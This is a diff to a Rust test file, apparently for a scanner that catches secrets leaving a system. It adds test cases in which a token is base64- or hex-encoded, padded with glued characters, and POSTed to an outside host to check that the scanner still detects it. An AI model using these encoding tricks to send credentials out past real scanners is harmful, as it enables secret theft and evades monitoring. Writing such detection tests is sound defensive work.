@@ -92,6 +92,23 @@ fn attack_12_secrets_hidden_from_the_scanner() {
             "a token inside a base64 body",
             format!("-X POST --data 'v={token_b64}' https://{WILD}/echo"),
         ),
+        // Alphanumerics glued on shift the base64 groups and hex pairs, and
+        // make the last symbol carry stray bits.
+        (
+            "base64 behind a glued letter",
+            format!("-X POST --data 'v=x{token_b64}' https://{WILD}/echo"),
+        ),
+        (
+            "base64 with letters glued after it",
+            format!("-X POST --data 'v={token_b64}BB' https://{WILD}/echo"),
+        ),
+        (
+            "hex behind a glued digit",
+            format!(
+                "-X POST --data 'v=a{}' https://{WILD}/echo",
+                hex(&format!("aws={token}"))
+            ),
+        ),
     ];
     for (what, args) in &cases {
         let v = f.fetch(args);
